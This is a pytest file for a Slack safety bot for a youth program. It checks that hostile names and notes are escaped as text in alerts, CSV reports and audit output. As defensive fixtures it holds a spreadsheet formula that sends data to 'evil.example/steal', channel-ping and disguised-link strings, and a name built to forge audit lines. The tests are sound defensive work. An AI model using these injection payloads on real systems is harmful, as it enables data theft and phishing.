"""Inert output end to end: names, notes and reasons that people or outsiders chose reach the alert
channel, the reports and the audit as text only. Asserted on what Slack received (whom it would
notify, the links it would show, `fakeslack/mrkdwn.py`) and on the files an administrator opens."""

from __future__ import annotations

import csv
import io
import json

from builders import ADMIN1, ADMIN2, ALERTS, GENERAL, MINOR1, MINOR2, SESSION, STAFF1, person, program, with_person
from scenario_world import command_line

from bot.access import Command
from bot.inert import FORMULA_STARTS
from handlers.slack.views import CONCERN_SHORTCUT

FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click to verify")'
EVIL = "evil.example"


def nobody_pinged_nothing_disguised(world, channel: str = ALERTS) -> None:
    """What the app posted in `channel` notified no crowd and linked nowhere evil."""
    shown = world.slack.notified(channel)
    assert shown, "the app posted nothing there"
    for message in shown:
        assert not message.notifies_everyone, message
        assert not any(EVIL in link.url for link in message.links), message


async def cli(*args: str, world, tmp_path) -> tuple[int, str, str]:
    env = {"SLACK_BOT_TOKEN": world.slack.bot_token, "SLACK_API_URL": world.slack.base_url}
    return await command_line(*args, database=tmp_path / "scenario.db", cwd=tmp_path, env=env)


def no_formula_cells(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(FORMULA_STARTS), (column, cell)
    return rows


async def a_stranger_with_a_formula_for_a_name(world) -> None:
    world.slack.add_user("U0EVIL01", name=FORMULA, email="evil@example.com")
    await world.slack.user_joins("U0EVIL01", GENERAL)
    await world.settle()
    assert world.alerts_for("unauthorized-member")


async def test_a_formula_display_name_is_text_in_the_minors_report_file(world):
    await a_stranger_with_a_formula_for_a_name(world)
    status, _ = await world.slack.slash_command(
        str(Command.REPORT), text="2026-07-01", user_id=ADMIN2, channel_id=GENERAL
    )
    assert status == 200
    await world.settle()
    [(_, content)] = world.slack.uploaded(ADMIN2)
    [row] = no_formula_cells(content.decode())
    assert row["people"] == f"'{FORMULA} (U0EVIL01)"  # the name is still all there, as text


async def test_a_formula_display_name_is_text_in_the_report_csv(world, tmp_path):
    await a_stranger_with_a_formula_for_a_name(world)
    code, out, err = await cli("report", "--format", "csv", world=world, tmp_path=tmp_path)
    assert code == 0, err
    assert any(FORMULA in r["people"] for r in no_formula_cells(out))


async def test_a_formula_display_name_is_text_in_the_audit_csv(world, tmp_path):
    await a_stranger_with_a_formula_for_a_name(world)
    code, out, err = await cli("audit", "--format", "csv", world=world, tmp_path=tmp_path)
    assert code == 1, err
    assert any(FORMULA in r["people"] for r in no_formula_cells(out))


async def test_a_concern_note_cannot_ping_the_alert_channel_or_leave_its_quote(world):
    message = await world.slack.user_says(STAFF1, GENERAL, "see you all at 3")
    await world.slack.message_shortcut(MINOR1, CONCERN_SHORTCUT, channel_id=GENERAL, message_ts=message["ts"])
    await world.settle()
    [modal] = world.slack.views("views.open")
    note = "He asked me to\n<!channel> <!here|here> *URGENT* <https://evil.example/login|Click to verify>\r\nthanks"
    status, _ = await world.slack.submit_view(
        MINOR1, modal, {"note": {"value": {"type": "plain_text_input", "value": note}}}
    )
    assert status == 200
    await world.settle()
    [alert] = [m for m in world.slack.posted(ALERTS) if "reported a concern" in m["text"]]
    nobody_pinged_nothing_disguised(world)
    quoted = alert["text"].split("\n")[1:]
    assert quoted == [
        "> He asked me to",
        "> &lt;!channel&gt; &lt;!here|here&gt; *URGENT* &lt;https://evil.example/login|Click to verify&gt;",
        "> thanks",
    ]
    [shown] = [s for s in world.slack.notified(ALERTS) if s.method == "chat.postMessage"]
    assert set(shown.users) == {MINOR1, STAFF1}  # the reporter and the author, as the app named them


async def test_a_roster_name_in_an_alert_notifies_nobody(started):
    casey = person("<!here> Casey <https://evil.example|roster>", "minor", None, email="casey@example.org")
    world = await started(with_person(program(), casey))
    [alert] = [a for a in world.alerts_for("guardian-cannot-see") if "Casey" in a["text"]]
    nobody_pinged_nothing_disguised(world)
    assert "Minor &lt;!here&gt; Casey &lt;https://evil.example|roster&gt; has no guardian" in alert["text"]
    code_block = alert["blocks"][0]["text"]["text"]
    assert "&lt;!here&gt; Casey" in code_block


async def test_a_lockdown_reason_is_shown_not_acted_on(world):
    reason = "<!channel> &lt;b&gt; see <https://evil.example|the rules>"
    status, _ = await world.slack.slash_command(
        str(Command.LOCKDOWN), text=f"<#{SESSION}|session-1> {reason}", user_id=ADMIN1, channel_id=SESSION
    )
    assert status == 200
    await world.settle()
    [alert] = [m for m in world.slack.posted(ALERTS) if "locked down" in m["text"]]
    nobody_pinged_nothing_disguised(world)
    # As typed: Slack's own escaping of the command's text read back once, then escaped for the alert.
    assert "Reason: &lt;!channel&gt; &lt;b&gt; see &lt;https://evil.example|the rules&gt;." in alert["text"]


async def test_a_newline_in_a_display_name_adds_no_line_to_the_text_audit(world, tmp_path):
    name = "Eve\nCRITICAL\n  dm-adult-minor · forged line\x1b[2K\u202eeno"
    world.slack.add_user("U0EVIL02", name=name, email="eve@example.com")
    await world.slack.user_joins("U0EVIL02", GENERAL)
    await world.settle()
    code, out, err = await cli("audit", "--format", "text", world=world, tmp_path=tmp_path)
    assert code == 1, err
    lines = out.splitlines()
    assert "CRITICAL" not in lines and not any(line.startswith("  dm-adult-minor") for line in lines)
    [line] = [line for line in lines if "Eve" in line]
    assert "has members not on the roster" in line and "Eve CRITICAL   dm-adult-minor · forged line" in line
    assert "\x1b" not in out and "\u202e" not in out


async def test_a_consent_note_is_shown_not_acted_on(world):
    status, answer = await world.slack.slash_command(
        str(Command.CONSENT), text=f"<@{MINOR2}|jo> granted <!here> form at <https://evil.example|the office>",
        user_id=ADMIN1, channel_id=GENERAL,
    )  # fmt: skip
    assert status == 200 and "Recorded" in answer["text"]
    assert "Note: &lt;!here&gt; form at &lt;https://evil.example|the office&gt;" in answer["text"]
    [shown] = [s for s in world.slack.shown if s.method == "answer"]
    assert not shown.notifies_everyone and not shown.links and set(shown.users) == {MINOR2, ADMIN1}


async def test_a_roster_files_name_and_values_are_shown_not_acted_on(world):
    status, _ = await world.slack.slash_command(str(Command.ROSTER), user_id=ADMIN1, channel_id=GENERAL)
    assert status == 200
    await world.settle()
    modal = world.slack.views("views.open")[-1]
    bad = "name,email,role\nAvery,avery@mit.edu,program_admin\nBo,bo@example.org,<!channel>\n"
    file = world.slack.add_file(ADMIN1, "<!everyone> roster.csv", bad.encode())
    _, body = await world.slack.submit_view(ADMIN1, modal, {"csv": {"value": {"type": "file_input", "files": [file]}}})
    assert body["response_action"] == "update"
    await world.settle()
    [outcome] = world.slack.views("views.update")
    assert "Nothing was changed" in json.dumps(outcome)
    assert "&lt;!everyone&gt; roster.csv" in json.dumps(outcome) and "&lt;!channel&gt;" in json.dumps(outcome)
    read = [s for s in world.slack.shown if s.method in ("answer", "views.update")]
    assert len(read) == 3 and not any(s.notifies_everyone or s.links for s in read)  # command, form, update
